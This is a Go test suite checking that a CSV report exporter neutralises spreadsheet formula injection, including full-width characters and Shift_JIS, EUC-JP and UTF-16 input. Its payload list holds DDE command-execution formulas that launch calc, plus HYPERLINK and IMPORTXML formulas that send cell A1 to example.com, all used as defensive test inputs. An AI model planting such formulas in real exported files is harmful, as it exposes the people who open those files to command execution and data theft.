// Formulas: none comes through, and everything comes back.

package report

import (
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/unicode"
	"pgregory.net/rapid"

	"github.com/hubload/hubload/importer/csvfile"
	"github.com/hubload/hubload/importer/journal"
)

func TestNeutralise(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\uFF1D1", "'\uFF1D1"},
		{"\uFF0B1", "'\uFF0B1"},
		{"\uFF0D1", "'\uFF0D1"},
		{"\uFF20x", "'\uFF20x"},
		{"-1", "-1"},
		{"+49", "+49"},
		{"-1.234,56", "-1.234,56"},
		{"-.5", "-.5"},
		{"-1.5E+10", "-1.5E+10"},
		{"-", "'-"},
		{"-,", "'-,"},
		{"-1e", "'-1e"},
		{"-1\n", "'-1\n"},
		{"+1 2", "'+1 2"},
		{"'", "'"},
		{"'plain", "'plain"},
		{"'-1", "'-1"},
		{"'=1", "''=1"},
		{"''=1", "'''=1"},
	} {
		if got := Neutralise(tc.in); got != tc.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := Restore(tc.want); got != tc.in {
			t.Errorf("Restore(%q) = %q, want %q", tc.want, got, tc.in)
		}
	}
	for _, s := range []string{"=1", "x", "-1", ""} {
		if got := Restore(s); got != s {
			t.Errorf("Restore(%q) = %q: it wasn't neutralised", s, got)
		}
	}
}

// texts are made of what matters to Neutralise, and of anything.
func texts() *rapid.Generator[string] {
	marks := rapid.StringOfN(rapid.SampledFrom([]rune("''''=+-@\t\r\n\"19.,eE;x \uFF1D\uFF0B\uFF0D\uFF20\xff")), 0, 12, -1)
	return rapid.OneOf(marks, rapid.String())
}

// go test -run RestoreUndoes -rapid.checks=1000000
func TestRestoreUndoesNeutralise(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := texts().Draw(t, "s")
		safe := Neutralise(s)
		if got := Restore(safe); got != s {
			t.Fatalf("%q became %q and came back as %q", s, safe, got)
		}
		if isFormula(safe) {
			t.Fatalf("%q became %q, which is a formula", s, safe)
		}
		if s != safe && !isFormula(strings.TrimLeft(s, "'")) {
			t.Fatalf("%q became %q for nothing", s, safe)
		}
	})
}

// isFormula is what a spreadsheet would say, in other words than the package's.
func isFormula(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20", []rune(s)[0]) {
		return false
	}
	if s[0] != '+' && s[0] != '-' {
		return true
	}
	mantissa, exponent, hasExponent := strings.Cut(strings.ToLower(s[1:]), "e")
	digits := func(s, others string) bool {
		return strings.Trim(s, "0123456789"+others) == "" && strings.ContainsAny(s, "0123456789")
	}
	if strings.HasPrefix(exponent, "-") || strings.HasPrefix(exponent, "+") {
		exponent = exponent[1:]
	}
	leading := len(mantissa) - len(strings.TrimLeft(mantissa, ".,"))
	return leading > 1 || !digits(mantissa, ".,") || hasExponent && !digits(exponent, "")
}

// payloads are formulas as they are found in the wild, each behind every way to
// begin.
func payloads() []string {
	var all []string
	for _, start := range []string{"=", "+", "-", "@", "\t=", "\r=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"} {
		for _, formula := range []string{
			"cmd|' /C calc'!A0", "HYPERLINK(\"http://example.com?x=\"&A1,\"click\")", "IMPORTXML(CONCAT(\"http://example.com?v=\",A1),\"//a\")",
			"1+1", "SUM(1,1)", "10+20+cmd|' /C calc'!A0", "WEBSERVICE(\"http://example.com\")", "'file:///etc/passwd'#$x.A1",
			"\"=1\"", "DDE(\"cmd\";\"/C calc\";\"x\")",
		} {
			all = append(all, start+formula)
		}
	}
	return all
}

// A hostile server's text is in every column that it can reach.
func TestServersFormulas(t *testing.T) {
	var input strings.Builder
	input.WriteString("a\n")
	var fates []journal.Fate
	for i, p := range payloads() {
		input.WriteString("x\n")
		fates = append(fates, journal.Fate{
			Row: int64(i + 1), Kind: []journal.Kind{journal.Refused, journal.InDoubt}[i%2],
			Code: p, Property: p, Message: p, CorrelationID: p,
		})
	}
	dir := t.TempDir()
	st := journalOf(t, dir, fates...)
	defer st.Close()
	mustWrite(t, dir, source([]byte(input.String()), csvfile.Options{}), st, Options{})
	seen := 0
	for _, name := range []string{failuresName, inDoubtName} {
		for _, row := range parse(t, content(t, dir, name), csvfile.Options{}).rows {
			seen++
			for _, cell := range row {
				if isFormula(cell) || strings.ContainsAny(cell, "\t\r\n") {
					t.Errorf("%s holds %q", name, cell)
				}
			}
		}
	}
	if seen != len(payloads()) || seen < 100 {
		t.Errorf("%d rows for %d payloads", seen, len(payloads()))
	}
}

// With ExcelSafe no cell of the report is a formula, and Restore gives the
// input's cells back, whatever its encoding.
func TestExcelSafe(t *testing.T) {
	for _, tc := range []struct {
		name    string
		options csvfile.Options
		encode  func(string) (string, error)
	}{
		{"utf-8", csvfile.Options{}, func(s string) (string, error) { return s, nil }},
		{"shift_jis", csvfile.Options{Encoding: "shift_jis"}, japanese.ShiftJIS.NewEncoder().String},
		{"utf-16", csvfile.Options{}, unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder().String},
		{"euc-jp", csvfile.Options{Encoding: "euc-jp"}, japanese.EUCJP.NewEncoder().String},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var cells []string
			for _, p := range payloads() {
				cells = append(cells, p, "'"+p)
			}
			cells = append(cells, "-1.5", "'x", "表示", "a,b")
			text := "=Name,表\n"
			var fates []journal.Fate
			for i, c := range cells {
				// Once in quotes, and once without where that is well-formed.
				second := "x"
				if !strings.ContainsAny(c, ",\"\r\n") {
					second = c
				}
				text += "\"" + strings.ReplaceAll(c, `"`, `""`) + "\"," + second + "\n"
				fates = append(fates, refused(int64(i+1), "", "m"))
			}
			input, err := tc.encode(text)
			if err != nil {
				t.Fatal(err)
			}
			dir := t.TempDir()
			st := journalOf(t, dir, fates...)
			defer st.Close()
			mustWrite(t, dir, source([]byte(input), tc.options), st, Options{ExcelSafe: true})
			once := content(t, dir, failuresName)
			got := parse(t, once, tc.options)
			if got.header[0] != "'=Name" || Restore(got.header[0]) != "=Name" {
				t.Errorf("the header's name became %q", got.header[0])
			}
			for i, row := range got.rows {
				if Restore(row[0]) != cells[i] || Restore(row[1]) != cells[i] && row[1] != "x" {
					t.Errorf("%q came back as %q", cells[i], row[:2])
				}
				for _, cell := range row {
					if isFormula(cell) {
						t.Errorf("%q is a formula", cell)
					}
				}
			}

			// The report of an import of that report marks nothing twice.
			src := source([]byte(once), tc.options)
			src.Neutralised = true
			mustWrite(t, dir, src, st, Options{ExcelSafe: true})
			if again := content(t, dir, failuresName); again != once {
				t.Errorf("the report of the report is another:\n%s\nwas:\n%s", again, once)
			}
		})
	}
}

// Records that can't be decoded are safe too.
func TestExcelSafeOfBadRecords(t *testing.T) {
	wide, err := japanese.ShiftJIS.NewEncoder().String("\uFF1D1")
	if err != nil {
		t.Fatal(err)
	}
	input := "a,b\n=1+1,\x81\n" + wide + ",\x81\n=1,2,=3\n'=x\n"
	dir := t.TempDir()
	st := journalOf(t, dir, refused(1, "", "m"), refused(2, "", "m"), refused(3, "", "m"), refused(4, "", "m"))
	defer st.Close()
	mustWrite(t, dir, source([]byte(input), csvfile.Options{Encoding: "shift_jis"}), st, Options{ExcelSafe: true})
	got := strings.Split(content(t, dir, failuresName), "\n")
	for i, want := range []string{"'=1+1,", "'" + wide + ",", "'=1,2,", "''=x,,"} {
		if !strings.HasPrefix(got[i+1], want) {
			t.Errorf("row %d is %q, want it to begin with %q", i+1, got[i+1], want)
		}
	}
}

// An encoding without full-width forms has ? for them, which is no formula.
func TestExcelSafeWithoutFullWidthForms(t *testing.T) {
	dir := t.TempDir()
	st := journalOf(t, dir, refused(1, "", "m"))
	defer st.Close()
	src := source([]byte("a,b\n?,=\xE9\n"), csvfile.Options{Encoding: "windows-1252"})
	mustWrite(t, dir, src, st, Options{ExcelSafe: true})
	if got := content(t, dir, failuresName); !strings.Contains(got, "\n?,'=\xE9,1,") {
		t.Errorf("got %q", got)
	}
}
